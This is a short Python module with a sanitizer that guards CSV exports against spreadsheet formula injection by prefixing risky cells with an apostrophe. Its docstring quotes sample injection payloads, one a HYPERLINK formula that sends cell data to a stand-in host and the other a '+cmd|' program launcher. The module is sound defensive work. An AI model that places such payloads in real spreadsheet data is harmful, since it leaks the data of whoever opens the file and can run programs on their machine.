"""A CSV cell that a spreadsheet shows as text and never runs.

Excel, LibreOffice and Google Sheets evaluate a cell that starts like a formula (``=``, ``+``,
``-``, ``@``, or a tab or carriage return before one) when a CSV file is opened: an agent's input
``=HYPERLINK("http://evil.example/?leak="&A1, "details")`` would send an auditor's sheet away, and
``+cmd|...`` can start a program. Every CSV amem writes (the auditors' export, the console's audit
trail) passes its text cells through ``spreadsheet_safe``, so the two cannot drift apart; JSON Lines
keeps every value exact.
"""

from __future__ import annotations

#: How a cell starts when a spreadsheet would read it as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """``text`` with a leading apostrophe where a spreadsheet would run it as a formula (the
    apostrophe marks a cell as text); every other text as it is."""
    return "'" + text if text.startswith(FORMULA_START) else text
